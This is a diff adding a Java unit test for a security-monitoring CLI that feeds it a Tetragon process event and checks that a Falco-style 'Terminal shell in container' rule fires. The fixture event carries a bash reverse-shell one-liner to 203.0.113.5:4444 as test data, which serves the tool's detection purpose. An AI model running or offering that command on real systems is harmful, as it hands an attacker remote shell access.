@@ -97,6 +97,28 @@ class WatchCommandTest {
     }
 
     @Test
+    void tetragonJsonSource_isEvaluated_withTheContainerItsEventsName() throws Exception {
+        String line = "{\"process_exec\":{\"process\":{\"pid\":52699,\"uid\":0,\"binary\":\"/bin/bash\","
+                + "\"arguments\":\"-c \\\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\\"\",\"pod\":{\"namespace\":"
+                + "\"default\",\"name\":\"xwing\",\"container\":{\"id\":\"containerd://551e161c47d8ff0eb665438a7bcd5b4e3ef5a"
+                + "297282b40a92b7c77d6bd168eb3\",\"name\":\"spaceship\",\"image\":{\"id\":\"docker.io/tgraf/netperf@"
+                + "sha256:8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6\",\"name\":"
+                + "\"docker.io/tgraf/netperf:latest\"}}}},\"parent\":{\"pid\":52600,\"binary\":\"/usr/bin/php-fpm\"}},"
+                + "\"node_name\":\"node-1\",\"time\":\"2026-10-06T22:03:57.700326678Z\"}\n"
+                + "{\"process_uprobe\":{},\"time\":\"2026-10-06T22:03:58Z\"}\n";
+        Path file = dir.resolve("tetragon.jsonl");
+        Files.writeString(file, line);
+        Cli.Result r = Cli.run("watch", "--source", "tetragon-json:" + file, "--format", "json");
+        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
+        // rules match as Falco's do by default: the first matching rule of the file
+        assertThat(r.out()).contains("\"rule\":\"Terminal shell in container\"")
+                .contains("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+                .contains("\"container.image.repository\":\"docker.io/tgraf/netperf\"")
+                .contains("\"container.id\":\"551e161c47d8\"");
+        assertThat(r.err()).contains("1 malformed inputs skipped");
+    }
+
+    @Test
     void badArguments_areUsageOrInputErrors() throws Exception {
         assertThat(Cli.run("watch", "--source", "nosuch").exitCode()).isEqualTo(ExitCode.USAGE);
         assertThat(Cli.run("watch", "--source", "Bad Spec").exitCode()).isEqualTo(ExitCode.USAGE);
